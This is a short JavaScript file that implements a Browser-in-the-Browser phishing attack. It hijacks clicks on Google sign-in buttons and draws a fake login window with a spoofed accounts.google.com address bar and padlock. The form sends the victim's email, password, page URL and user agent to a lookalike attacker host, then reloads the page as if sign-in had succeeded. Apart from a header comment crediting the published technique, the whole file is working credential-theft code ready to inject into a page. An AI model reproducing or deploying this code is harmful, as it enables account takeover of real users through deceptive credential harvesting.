// bitb-popup, written from mr.d0x, "Browser In The Browser (BITB) Attack" (2022), and the
// reports of its use in phishing that followed: a "Sign in with Google" button on the page
// opens not a real pop-up but an HTML window drawn inside the page - title bar, padlock and
// a fake address bar showing accounts.google.com - whose login form sends the e-mail and
// password to the attacker, then closes as if the sign-in had worked.
(function () {
  var css = "position:fixed;top:12%;left:50%;transform:translateX(-50%);width:420px;z-index:2147483647;" +
    "background:#fff;border:1px solid #999;border-radius:8px;box-shadow:0 10px 40px rgba(0,0,0,.4);font:14px Arial";
  function openFake() {
    var w = document.createElement("div");
    w.style.cssText = css;
    w.innerHTML =
      '<div style="background:#dee1e6;padding:6px 10px;border-radius:8px 8px 0 0">Sign in - Google Accounts' +
      '<span id="bb-x" style="float:right;cursor:pointer">&#10005;</span></div>' +
      '<div style="padding:4px 10px;background:#f1f3f4">&#128274; https://accounts.google.com/signin/v2/identifier</div>' +
      '<form id="bb-f" style="padding:24px"><h3>Sign in</h3><input name="identifier" type="email" placeholder="Email or phone" style="width:100%">' +
      '<input name="Passwd" type="password" placeholder="Enter your password" style="width:100%;margin-top:12px">' +
      '<button style="margin-top:16px">Next</button></form>';
    document.body.appendChild(w);
    var drag = null;
    w.firstChild.addEventListener("mousedown", function (e) { drag = [e.clientX - w.offsetLeft, e.clientY - w.offsetTop]; });
    document.addEventListener("mousemove", function (e) { if (drag) { w.style.left = e.clientX - drag[0] + "px"; w.style.top = e.clientY - drag[1] + "px"; } });
    document.addEventListener("mouseup", function () { drag = null; });
    document.getElementById("bb-x").onclick = function () { w.remove(); };
    document.getElementById("bb-f").addEventListener("submit", function (e) {
      e.preventDefault();
      var fd = new FormData(e.target);
      fd.append("ref", location.href);
      fd.append("ua", navigator.userAgent);
      navigator.sendBeacon("https://accounts-google-signin.invalid/v3/signin/challenge", fd);
      w.remove();
      location.reload();
    });
  }
  document.querySelectorAll("a[href*='oauth'], .social-login-google, .btn-google").forEach(function (b) {
    b.addEventListener("click", function (e) { e.preventDefault(); e.stopImmediatePropagation(); openFake(); }, true);
  });
})();
